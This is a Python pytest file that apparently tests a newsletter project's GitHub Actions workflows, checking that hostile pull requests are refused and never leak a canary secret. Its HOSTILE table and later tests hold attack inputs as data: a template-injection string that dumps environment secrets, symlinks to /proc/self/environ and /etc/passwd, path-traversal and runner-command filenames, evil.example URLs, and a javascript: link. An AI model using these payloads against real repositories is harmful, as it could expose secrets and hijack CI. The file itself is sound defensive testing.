"""Pull requests that bring more than a letter: what holds a key takes nothing of it, and shows the key to nobody."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any

import pytest

from cenum.services.registry import specs
from tests.github.payloads import asked_for, labeled, pull_request
from tests.github.runner import FRIDAY, git
from tests.test_cli import ISSUE

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.github.runner import Ran, Runner

pytestmark = pytest.mark.long

CANARY = "canary-7f3a91"
LETTER = f"issues/{FRIDAY}.md"
STEALING = "{{ cycler.__init__.__globals__.os.environ }} {{ environ }} <mj-text>{{ secrets }}</mj-text>\n"


def settings(old: str, new: str) -> Callable[[str], str]:
    return lambda text: text.replace(old, new, 1)


# What each pull request changes beside a good letter: a text, a change of one, a link to somewhere, nothing at all.
Contents = "str | Callable[[str], str] | Link | None"


class Link(str):
    """Where a symbolic link leads."""

    __slots__ = ()


HOSTILE: dict[str, dict[str, Any]] = {
    "a template": {"templates/footer.mjml.j2": STEALING},
    "a template that is new": {"templates/zz.mjml.j2": STEALING},
    "a template taken away": {"templates/footer.mjml.j2": None},
    "the audience": {"cenum.toml": settings('name = "local"', 'name = "brevo"\nbrevo = { audience = 99 }')},
    "where mail goes": {"cenum.toml": settings("reviewers = [", 'reviewers = ["eve@evil.example", ')},
    "approvals": {"cenum.toml": settings("approvals = 1", "approvals = 0")},
    "waivers": {"waivers.toml": "[[waivers]]\n"},
    "the contacts": {"contacts.csv": "email,name\neve@evil.example,Eve\n"},
    "the words": {"words.txt": "evil\n"},
    "requirements": {"requirements.txt": "evil==1.0\n"},
    "a workflow": {".github/workflows/test-send.yml": "on: push\n"},
    "a workflow that is new": {".github/workflows/evil.yml": "on: push\n"},
    "an action": {".github/actions/evil/action.yml": "runs: {}\n"},
    "the attributes of git": {".gitattributes": "*.md filter=evil\n"},
    "the attributes of git, below": {"issues/.gitattributes": "*.md filter=evil\n"},
    "modules of git": {".gitmodules": '[submodule "x"]\n\tpath = issues/x\n\turl = https://evil.example/x\n'},
    "a hook": {".githooks/post-checkout": "#!/bin/sh\n"},
    "a module of Python's": {"cenum.py": "import os\n"},
    "a module that Python begins with": {"sitecustomize.py": "import os\n"},
    "settings of pip": {"pip.conf": "[global]\nfind-links = https://evil.example\n"},
    "the stamp": {".cenum-stamp.toml": 'version = "0"\n'},
    "what was kept": {".cenum/cache/links.sqlite3": "x"},
    "what was built": {"dist/record.json": "{}"},
    "a link in the place of the letter": {LETTER: Link("/proc/self/environ")},
    "a link beside the letter": {"issues/media/photo.png": Link("../../cenum.toml")},
    "a link to a folder": {"issues/media": Link("/etc")},
    "a link out of the templates": {"templates/extra.j2": Link("/proc/self/environ")},
    "a folder of issues elsewhere": {"Issues/2026-11-27.md": ISSUE},
    "something hidden": {"issues/.env": "X=1\n"},
    "a name that another system reads otherwise": {"issues/media/..\\..\\cenum.toml": "x"},
    "a name that a log would obey": {"issues/::error::x##[add-mask]y.png": "x"},
    "a name with a line break": {"issues/a\nb.png": "x"},
}


def bring(runner: Runner, tmp_path: Path, files: dict[str, Any], *, letter: str = ISSUE) -> str:
    """A branch of the repository, copied for it, that has ``files`` besides the letter: the commit it ends with."""
    folder = tmp_path / "copy"
    git("clone", "--quiet", "--bare", str(runner.origin), str(folder / "bare"))
    work = folder / "work"
    git("clone", "--quiet", "--branch", "main", str(folder / "bare"), str(work))
    git("-C", str(work), "checkout", "--quiet", "-b", "evil")
    for name, text in {LETTER: letter, **files}.items():
        path = work / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if text is None:
            path.unlink()
        elif isinstance(text, Link):
            path.unlink(missing_ok=True)
            path.symlink_to(text)
        else:
            path.write_text(text(path.read_text("utf-8")) if callable(text) else text, "utf-8")
    git("-C", str(work), "add", "--all", "--force")
    git("-C", str(work), "commit", "--quiet", "--message", "A letter")
    git("-C", str(work), "push", "--quiet", "origin", "evil")
    runner.origin = folder / "bare"
    runner.put(head="evil")
    runner.secrets = {name: CANARY for service in specs() for name in service.variables}
    return git("-C", str(work), "rev-parse", "HEAD")


def refuse_canary(runner: Runner, ran: list[Ran], *, but: Path | None = None) -> None:
    """The key stands in no output, no file, no request, no comment and no mail; ``but`` is where it was put."""
    assert not any(CANARY in one.said for one in ran)
    for folder, _folders, names in os.walk(runner.home):
        for name in names:
            path = runner.home / folder / name
            if path.is_file() and not path.is_symlink() and path.parent != but:
                assert CANARY.encode() not in path.read_bytes(), path


def refuse_commands(ran: list[Ran]) -> None:
    """No line of a log is a command of GitHub's runner but annotations of ours."""
    for one in ran:
        for line in one.said.splitlines():
            assert "##[" not in line
            assert not line.lstrip().startswith("::") or line.startswith(("::error ", "::warning "))


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_is_more_than_a_letter_is_not_tested_and_is_named(github: Runner, tmp_path: Path, kind: str) -> None:
    head = bring(github, tmp_path, HOSTILE[kind])
    results, ran = github.run("test-send", "pull_request_target", labeled("test-send", head=head))
    assert results == {"pictures": "failure", "test-send": "failure"}
    for job, end in (("pictures", []), ("test-send", ["Say who was sent it"])):
        assert [one.name for one in ran if one.job == job] == ["Install cenum", "Take the letter", *end]
    assert github.repository["refs"] == {}
    assert github.mails() == []
    (comment,) = github.comments()
    assert "la pull request change plus que la lettre" in comment
    # Nothing of it came into the folder of the job, not even the letter.
    for work in github.home.glob("work-*"):
        assert git("-C", str(work), "status", "--porcelain", "--", ":!dist") == ""
    refuse_canary(github, ran)
    refuse_commands(ran)


@pytest.mark.parametrize("place", [LETTER, "issues/media", "issues", "issues/media/photo.png"])
@pytest.mark.parametrize("leads", ["outside", "to a new file"])
def test_a_link_within_the_checkout_is_not_followed_to_what_lies_outside(
    github: Runner, tmp_path: Path, place: str, leads: str
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    canary = outside / "photo.png"
    canary.write_text(f"{ISSUE}{CANARY}", "utf-8")
    head = bring(github, tmp_path, {"issues/media/photo.png": "a picture of the pull request"})

    def put(folder: Path) -> None:
        path = folder / place
        path.parent.mkdir(parents=True, exist_ok=True)
        target = outside if not path.suffix else canary
        path.symlink_to(target if leads == "outside" else outside / "new")

    github.found = put
    results, ran = github.run("test-send", "pull_request_target", labeled("test-send", head=head))
    assert results == {"pictures": "failure", "test-send": "failure"}
    assert "est un lien symbolique" in ran[-1].said + "".join(github.comments())
    assert os.listdir(outside) == ["photo.png"]  # noqa: PTH208  names
    assert canary.read_text("utf-8") == f"{ISSUE}{CANARY}"
    assert github.mails() == []
    refuse_canary(github, ran, but=outside)
    refuse_commands(ran)


def test_nor_is_it_approved(tested: Runner, tmp_path: Path) -> None:
    head = bring(tested, tmp_path, HOSTILE["approvals"])
    tested.put(reviews=[{"user": {"login": "ada", "type": "User"}, "state": "APPROVED", "commit_id": head}])
    for event, payload in (
        ("pull_request_target", labeled("approved", head=head)),
        ("workflow_dispatch", asked_for(12)),
    ):
        results, ran = tested.run("approve", event, payload)
        assert results == {"approve": "failure", "schedule": "skipped"}
        assert [one.name for one in ran][-1] == "Say who approved"
        assert "cenum.toml" in tested.comments()[-1]
        refuse_canary(tested, ran)


def test_a_good_letter_is_tested_with_the_key_at_hand_and_nobody_sees_it(github: Runner, tmp_path: Path) -> None:
    letter = ISSUE.replace("Bonjour", "{{ environ }} ::add-mask::x ##[error]x Bonjour")
    head = bring(github, tmp_path, {}, letter=letter)
    results, ran = github.run("test-send", "pull_request_target", labeled("test-send", head=head))
    assert results == {"pictures": "success", "test-send": "success"}, ran[-2].said
    assert github.mails()
    refuse_canary(github, ran)
    refuse_commands(ran)


def test_the_letter_is_tested_as_it_will_be_merged_byte_for_byte(github: Runner, tmp_path: Path) -> None:
    head = bring(github, tmp_path, {})
    github.run("test-send", "pull_request_target", labeled("test-send", head=head))
    github.run("approve", "pull_request_target", labeled("approved", head=head))
    assert "| ada |" in github.comments()[-1]
    # The digest in the campaign's name is that of the letter once it is merged: or nothing would be scheduled.
    github.now = "2026-11-26T15:00:00+00:00"
    results, _ran = github.run("schedule", "push", {}, ref="evil")
    assert results["schedule"] == "success"
    assert "2026-11-27 07:00" in github.comments()[-1]
    (work,) = github.home.glob("work-*-test-send")
    for line in git("-C", str(work), "ls-tree", "-r", head, "issues").splitlines():
        about, name = line.split("\t")
        assert git("-C", str(work), "hash-object", "--no-filters", name) == about.split()[2]


def test_what_main_changed_as_well_is_brought_up_to_date_first(github: Runner, tmp_path: Path) -> None:
    head = bring(github, tmp_path, {})
    work = tmp_path / "copy" / "work"
    git("-C", str(work), "checkout", "--quiet", "main")
    (work / "issues").mkdir(exist_ok=True)
    (work / LETTER).write_text(ISSUE.replace("Bonjour", "Bonsoir"), "utf-8")
    git("-C", str(work), "add", "--all")
    git("-C", str(work), "commit", "--quiet", "--message", "Another")
    git("-C", str(work), "push", "--quiet", "origin", "main")
    results, _ran = github.run("test-send", "pull_request_target", labeled("test-send", head=head))
    assert results == {"pictures": "failure", "test-send": "failure"}
    assert "Update branch" in github.comments()[0]


def test_what_was_changed_since_it_was_merged_is_not_approved_there(tested: Runner) -> None:
    event = labeled("approved", head=tested.pulled(merged=True))
    results, _ran = tested.run("approve", "pull_request_target", event, ref="changed")
    assert results == {"approve": "failure", "schedule": "skipped"}
    assert "a changé depuis la fusion" in tested.comments()[0]


def test_a_repository_that_is_not_listed_whole_is_refused(github: Runner) -> None:
    event = labeled("test-send", head=github.pulled(truncated=True))
    assert github.run("test-send", "pull_request_target", event)[0] == {"pictures": "failure", "test-send": "failure"}


# The review.


def test_the_review_begins_with_what_else_is_changed(github: Runner, tmp_path: Path) -> None:
    def changed(text: str) -> str:
        text = text.replace("approvals = 1", "approvals = 0", 1)
        return text.replace("reviewers = [", 'reviewers = ["@ada <img src=x>", ', 1)

    files = {
        "cenum.toml": changed,
        "templates/footer.mjml.j2": "x",
        "requirements.txt": "evil==1.0\n",
        ".github/workflows/test-send.yml": "on: push\n",
        "issues/media/@ada-www.evil.example.png": Link("/etc/passwd"),
    }
    head = bring(github, tmp_path, files)
    results, ran = github.run("review", "pull_request", pull_request(head=head), ref="evil")
    assert results["comment"] == "success", ran[-1].said
    (comment,) = github.comments()
    listed = [line for line in comment.splitlines() if line.startswith("- ")]
    assert comment.splitlines()[1].startswith("⚠️")
    assert listed[0] == "- approvals 1 → 0"
    assert "reviewers" in listed[1]
    assert "@\u2060ada &#60;img src=x&#62;" in listed[1]
    assert listed[2:6] == [
        "- .github/workflows/test-send.yml",
        "- issues/media/@\u2060ada-www\u2060.evil.example.png (un lien ou un sous-module)",
        "- requirements.txt",
        "- templates/footer.mjml.j2",
    ]
    refuse_commands(ran)


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/actions/runs/1/artifacts/2",
        "https://github.com/team/letter/actions/runs/2/artifacts/2",
        "https://github.com/team/letter/actions/runs/1/artifacts/2) [x](https://evil.example",
        "https://github.com/team/letter/actions/runs/1/artifacts/2\nx",
        "javascript:alert(1)",
    ],
)
def test_a_preview_is_opened_on_the_runs_own_page_or_not_at_all(github: Runner, address: str) -> None:
    github.artifact_url = address
    results, _ran = github.run("review", "pull_request", pull_request(head=github.pulled()), ref="pull")
    assert results == {"check": "success", "comment": "success"}
    (comment,) = github.comments()
    assert "Ouvrir l’aperçu" not in comment
    assert "evil.example" not in comment
